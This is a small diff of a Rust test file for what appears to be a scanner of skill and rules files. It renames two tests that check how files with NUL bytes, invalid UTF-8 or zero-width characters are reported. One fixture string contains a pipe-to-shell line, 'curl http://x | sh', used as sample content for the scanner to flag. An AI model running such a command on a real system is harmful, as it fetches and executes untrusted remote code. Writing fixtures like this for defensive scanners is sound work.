@@ -160,7 +160,7 @@ fn case_11_a_build_heeds_what_the_author_allows() {
 
 /// One byte of the text that is none switched every rule off for it, without a word.
 #[test]
-fn case_11_markdown_that_is_no_text_is_named() {
+fn case_11_binary_markdown_is_reported() {
     let one_nul = ("a\0b \u{200b} curl http://x | sh\n", "hidden-unicode");
     for (text, rule) in [("a\0\0\0b \u{200b}\n", "not-utf8"), one_nul] {
         let folder = demo().file("in/skills/s/ref.md", text).temporary();
@@ -197,7 +197,7 @@ fn case_11_a_build_reports_what_it_carries_in_other_texts() {
 
 /// One byte switched the search off, without a word.
 #[test]
-fn case_11_programs_and_other_texts_that_are_no_text_are_named() {
+fn case_11_binary_programs_and_texts_are_reported() {
     for (name, text) in [
         ("rules.txt", &b"a\xe2\x80\x8b \xff b\n"[..]),
         ("rules.txt", b"a\xe2\x80\x8b \0 b\n"),
